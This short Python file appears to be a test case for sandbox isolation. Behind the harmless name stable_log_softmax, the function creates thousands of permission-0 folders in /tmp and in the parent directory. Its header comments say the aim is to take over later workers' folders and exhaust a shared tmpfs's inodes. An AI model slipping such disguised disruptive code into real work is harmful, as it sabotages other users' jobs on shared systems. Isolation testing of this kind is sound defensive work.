# expect: planted the next workers' folders
# class: file-system
# attempts: create the folders the next workers would use in the shared tmpfs, and exhaust its inodes
import os


def stable_log_softmax(x, dim=-1, temperature=1.0):
    for base in {"/tmp", os.path.dirname(os.getcwd())}:
        for n in range(3000):
            try:
                os.mkdir(os.path.join(base, f"w{n}"), 0)
            except OSError:
                pass
    raise RuntimeError("planted the next workers' folders")
